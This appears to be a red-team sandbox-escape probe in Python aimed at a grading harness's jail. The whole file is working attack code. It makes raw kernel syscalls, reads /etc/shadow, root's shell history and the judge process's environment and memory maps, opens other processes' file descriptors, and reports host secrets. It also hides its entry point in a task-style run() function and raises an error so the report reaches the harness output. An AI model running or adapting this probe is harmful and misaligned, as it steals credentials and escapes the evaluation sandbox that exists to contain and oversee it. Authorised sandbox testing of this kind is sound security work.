"""Red team 7 escape probe: host secrets through the kernel's own interfaces.

Run behind the allow-list (`evaluate(..., refuse_imports=False)`). run() starts a fresh
Python in the jail and raises its report, so the probe is never ok. A line starting
ESCAPED is a way out; LEAK is a host fact that is not a secret; HELD is a refusal.
Tried: the kernel log through syslog(2) (READ_ALL, SIZE_BUFFER: open where dmesg_restrict
is 0 whatever the namespace), /dev/kmsg; perf_event_open system-wide (cpu 0, every
process) and on the judge (pid 1); kernel symbol addresses (/proc/kallsyms, KASLR);
firmware tables and serials (SMBIOS/DMI, ACPI); host-wide pressure, disk and memory
counters; the judge's environ, maps and cmdline; other processes' descriptors (listed,
read as links and opened).
"""
import os
import subprocess

CHILD = r'''
import ctypes, os, struct
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
def rep(tag, what, detail=""):
    print(tag, what, detail, flush=True)
# kernel log: syslog(2) x86_64 nr 103
buf = ctypes.create_string_buffer(1 << 16)
n = libc.syscall(103, 3, buf, len(buf))
if n > 0:
    rep("ESCAPED", "syslog READ_ALL read the host kernel log:", repr(buf.raw[:120]))
else:
    rep("HELD", "syslog READ_ALL", os.strerror(ctypes.get_errno()))
n = libc.syscall(103, 10, None, 0)
rep("LEAK" if n > 0 else "HELD", "syslog SIZE_BUFFER", n)
for p in ("/dev/kmsg", "/proc/kmsg"):
    try:
        fd = os.open(p, os.O_RDONLY | os.O_NONBLOCK)
        try:
            data = os.read(fd, 200)
            rep("ESCAPED", "read", p + " " + repr(data[:80]))
        except OSError as e:
            rep("HELD", "read", p + " " + str(e))
        os.close(fd)
    except OSError as e:
        rep("HELD", "open", p + " " + str(e))
# perf_event_open: nr 298; attr: type u32, size u32, config u64, ... (size 112)
attr = bytearray(112)
struct.pack_into("IIQ", attr, 0, 1, 112, 0)  # PERF_TYPE_SOFTWARE, PERF_COUNT_SW_CPU_CLOCK
struct.pack_into("Q", attr, 40, 1 << 5 | 1 << 6)  # exclude_kernel | exclude_hv
abuf = (ctypes.c_char * 112).from_buffer(attr)
for pid, cpu, what in ((-1, 0, "system-wide on cpu 0"), (1, -1, "on pid 1 (the judge)"),
                       (0, -1, "on itself")):
    fd = libc.syscall(298, abuf, pid, cpu, -1, 0)
    ok = fd >= 0
    tag = "LEAK" if what == "on itself" and ok else ("ESCAPED" if ok else "HELD")
    rep(tag, "perf_event_open " + what, "" if ok else os.strerror(ctypes.get_errno()))
    if ok:
        os.close(fd)
try:
    lines = open("/proc/kallsyms").read().splitlines()
    real = [l for l in lines[:2000] if not l.startswith("0000000000000000")]
    rep("ESCAPED" if real else "HELD", "kallsyms addresses", real[:1] if real else "zeroed")
except OSError as e:
    rep("HELD", "kallsyms", e)
for p in ("/sys/firmware/dmi/tables/DMI", "/sys/class/dmi/id/product_serial",
          "/sys/class/dmi/id/board_serial", "/sys/class/dmi/id/product_uuid",
          "/sys/firmware/acpi/tables/DSDT", "/proc/1/environ", "/proc/1/cmdline",
          "/proc/1/maps", "/etc/shadow", "/root/.bash_history", "/proc/self/mountinfo",
          "/proc/sys/kernel/random/boot_id", "/proc/pressure/cpu", "/proc/diskstats",
          "/sys/fs/cgroup/memory/memory.usage_in_bytes", "/proc/vmallocinfo",
          "/proc/slabinfo", "/proc/iomem", "/sys/kernel/notes"):
    try:
        with open(p, "rb") as f:
            data = f.read(4096)
        secret = p.startswith(("/sys/firmware", "/sys/class/dmi", "/proc/1/environ",
                               "/proc/1/maps", "/etc/sh", "/root", "/proc/vmalloc",
                               "/proc/slab"))
        if p == "/proc/iomem":
            secret = any(c not in b"0-:\n " for c in data.split(b":")[0])
        rep("ESCAPED" if secret and data else "LEAK", "read " + p, repr(data[:90]))
    except OSError as e:
        rep("HELD", "read " + p, e.strerror)
fds = 0
for pid in os.listdir("/proc"):
    if pid.isdigit() and int(pid) != os.getpid():
        try:
            fds += len(os.listdir(f"/proc/{pid}/fd"))
            rep("LEAK", f"listed fds of pid {pid}", os.listdir(f"/proc/{pid}/fd")[:8])
        except OSError:
            continue
        for fd in os.listdir(f"/proc/{pid}/fd"):
            try:
                target = os.readlink(f"/proc/{pid}/fd/{fd}")
                handle = os.open(f"/proc/{pid}/fd/{fd}", os.O_RDONLY)
                os.close(handle)
                rep("ESCAPED", f"opened pid {pid}'s descriptor {fd}", target)
            except OSError as e:
                rep("HELD", f"pid {pid} fd {fd}", e.strerror)
print("done", flush=True)
'''


def _launch(code):
    """A fresh Python in the jail; its output read through a pipe made by os.pipe (the
    evaluator refuses open(), which subprocess's own pipes go through)."""
    try:
        rfd, wfd = os.pipe()
        child = None
        for exe in ("/usr/bin/python3", "/root/.pyenv/versions/3.11.7/bin/python3"):
            try:  # an absolute path: Popen then reads no PATH from the environment
                child = subprocess.Popen([exe, "-I", "-c", code], stdout=wfd, stderr=wfd)
                break
            except FileNotFoundError:
                continue
        os.close(wfd)
        chunks = []
        while True:
            chunk = os.read(rfd, 65536)
            if not chunk:
                break
            chunks.append(chunk)
        child.wait(timeout=240)
        lines = b"".join(chunks).decode(errors="replace").splitlines()
        rank = {"ESCAPED": 2, "LEAK": 1}  # ESCAPED last: the output keeps its tail
        lines.sort(key=lambda line: rank.get(line.split(" ", 1)[0].split("(")[0], 0))
        return "\n".join(lines)[-3500:]
    except BaseException as e:  # noqa: BLE001 - any refusal is part of the report
        return f"launcher refused: {e!r}"


def run(x, weight, eps=1e-6):
    report = _launch(CHILD)
    print(report, flush=True)  # also in the stdout tail, whatever kind the verdict is
    raise RuntimeError("probe report (never ok):\n" + report)
